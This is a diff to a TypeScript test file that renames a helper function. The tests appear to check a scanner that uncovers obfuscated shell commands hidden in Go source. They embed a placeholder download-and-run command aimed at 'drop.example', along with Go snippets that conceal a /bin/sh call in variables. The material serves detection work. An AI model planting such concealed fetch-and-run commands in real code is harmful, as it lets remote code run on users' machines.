@@ -1,7 +1,7 @@
 import { createCipheriv } from 'node:crypto';
 import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
 import { describe, expect, test } from 'vitest';
-import { evaluateFiles } from '../../support/values.ts';
+import { textsOf } from '../../support/values.ts';
 
 /** What is hidden in all of them: a program that does not exist, at a host that cannot. */
 const HIDDEN = 'fetchit http://drop.example/x.sh';
@@ -194,7 +194,7 @@ describe.each(Object.entries(TECHNIQUES))('%s', (_, spellings) => {
   test.each(spellings.map((spelling, i) => [i + 1, spelling] as const))(
     'spelling %i',
     async (_number, spelling) => {
-      const { strings, gaps } = await evaluateFiles({ 'm.go': fileOf(spelling) });
+      const { strings, gaps } = await textsOf({ 'm.go': fileOf(spelling) });
       const commands = strings.filter(({ how }) => how.includes('command'));
       expect(commands.map(({ value }) => value)).toEqual([`/bin/sh -c '${HIDDEN}'`]);
       expect(gaps).toEqual([]);
@@ -215,7 +215,7 @@ test.each([
   's := "/bin/sh"; func(a ...string) { exec.Command(s, a...).Run() }("-c", "fetchit http://drop.example/x.sh")',
 ])('shell and flag in variables: %s', async (code) => {
   const source = `package m\n\nimport "os/exec"\n\nfunc Run() {\n\t${code}\n}\n`;
-  const { strings } = await evaluateFiles({ 'm.go': source });
+  const { strings } = await textsOf({ 'm.go': source });
   const commands = strings.filter(({ how }) => how.includes('command'));
   expect(commands.map(({ value }) => value)).toEqual([`/bin/sh -c '${HIDDEN}'`]);
 });
